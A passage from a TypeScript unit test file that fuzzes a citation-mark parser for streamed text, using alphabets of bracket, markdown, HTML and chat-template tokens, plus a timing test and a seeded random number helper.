      const disguised = disguiseMarks(text, 3);
      const { cited, hasLeaked, text: shown } = read([disguised], { passages: [text, 'b', 'c'], isWhole: true });
      expect({ cited, hasLeaked }, JSON.stringify(text)).toEqual({ cited: [], hasLeaked: false });
      // But for the beginning of a token at its very end.
      expect(text.startsWith(shown), JSON.stringify({ text, disguised, shown })).toBe(true);
    }
  });

  it('is read without slowing down', () => {
    const begin = performance.now();
    const open = ['[', '[ ', '[1', '<', '`', '(passage ', '⟦1', '<|', '\\'].map((mark) => mark.repeat(2_000));
    read([...`So ${' '.repeat(20_000)}${open.join('x')}`]);
    // Seconds for what takes milliseconds on an idle machine; minutes where it is quadratic.
    expect(performance.now() - begin).toBeLessThan(30_000);
  });
});

const ALPHABET = [
  ...['[', '[', ']', ']', '1', '2', '3', '9', '0', ',', '-', ' ', ' ', '\n', '\t', 'a', '.', '[1]', ' [9]', '12'],
  ...['`', '``', '```', '\n```\n', '\n\n', '(', ')', 'passage', ' passage 2', '<', '>', '|', '<|im_end|>', '<think>'],
  ...[
    '</s>',
    '<s>',
    '\\',
    '【',
    '】',
    '<|im_start|>',
    'assistant',
    'user',
    '[INST]',
    'args',
    '=',
    'https://x',
    '/',
    '~~~',
  ],
  ...['x_', '第', '段', '[12]', '<|channel|>', 'final', '<|message|>', '\u200b', '＜'],
  ...['（来源：段落', '）', '<tool_call>', '</tool_call>', '<|channel>', '<answer>', '[TOOL_CALLS]', '(x.md)', 'laut '],
];

const ACTIVE = [
  ...[
    '!',
    '![',
    '[',
    '](',
    '](https://x.org)',
    '](https://x.org "a")',
    '][',
    ']: https://x.org',
    '\n',
    '"',
    '<',
    '>',
    '=',
  ],
  ...[
    '<b>',
    '<code>',
    'rows[2]</code>',
    '<|im_start|>think\n',
    '<｜DSML｜function_calls>',
    '<function=x>',
    '_{',
    '<img src=x>',
    '<img',
    ' src=x',
    '</p>',
    '<https://x.org>',
    '<!--',
    '-->',
    '<a@b.org>',
    '- ',
    '`',
    '```',
    'br',
  ],
];

function cut(text: string, random: (below: number) => number): string[] {
  const pieces: string[] = [];
  for (let at = 0; at < text.length; ) {
    const size = 1 + random(4);
    pieces.push(text.slice(at, at + size));
    at += size;
  }
  return pieces;
}

/** Mulberry32: the same numbers on every run. */
function randomNumbers(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) % below;
  };
}
